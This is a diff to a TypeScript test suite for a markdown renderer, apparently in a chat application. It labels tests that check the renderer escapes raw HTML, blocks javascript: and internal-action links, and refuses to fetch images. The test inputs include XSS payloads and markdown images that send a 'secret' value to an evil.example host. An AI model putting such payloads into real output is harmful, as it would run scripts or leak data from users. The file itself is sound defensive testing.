@@ -14,7 +14,7 @@ const render = (text: string, isGrowing = false) =>
 /** The element names. Text is escaped, so it cannot match. */
 const tags = (html: string) => [...html.matchAll(/<([a-z0-9]+)/gu)].map(([, name]) => name)
 
-test('raw HTML renders as text', () => {
+test('raw HTML renders as text (attack F1)', () => {
   const html = render('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <b>bold</b> <iframe src="//evil.example">')
   expect(html).not.toMatch(/<(?:script|img|iframe|b)[\s>]/u)
   expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
@@ -32,7 +32,7 @@ test.each([
   '[x](/trpc/conversations.delete)',
   '<javascript:alert(1)>',
   '[x][1]\n\n[1]: javascript:alert(1)',
-])('%s is not a link', (text) => {
+])('%s is not a link (attack F2)', (text) => {
   expect(tags(render(text))).not.toContain('a')
 })
 
@@ -43,12 +43,12 @@ test.each([
   ['[x](tel:+358401234)', 'tel:+358401234'],
   ['https://a.example', 'https://a.example'],
   ['[x][1]\n\nbetween\n\n[1]: https://a.example', 'https://a.example'],
-])('%s links to %s without an opener or referrer', (text, address) => {
+])('%s links to %s without an opener or referrer (attack F2)', (text, address) => {
   expect(render(text)).toContain(`<a href="${address}" target="_blank" rel="noopener noreferrer nofollow">`)
 })
 
 test.each(['![secret](https://evil.example/?q=secret)', '![secret][1]\n\n[1]: https://evil.example/?q=secret'])(
-  'the picture %s is not fetched; a button names where it is',
+  'the picture %s is not fetched; a button names where it is (attack F3)',
   (text) => {
     const html = render(text)
     expect(tags(html).filter((name) => ['img', 'iframe', 'link', 'source', 'picture'].includes(name ?? ''))).toEqual([])
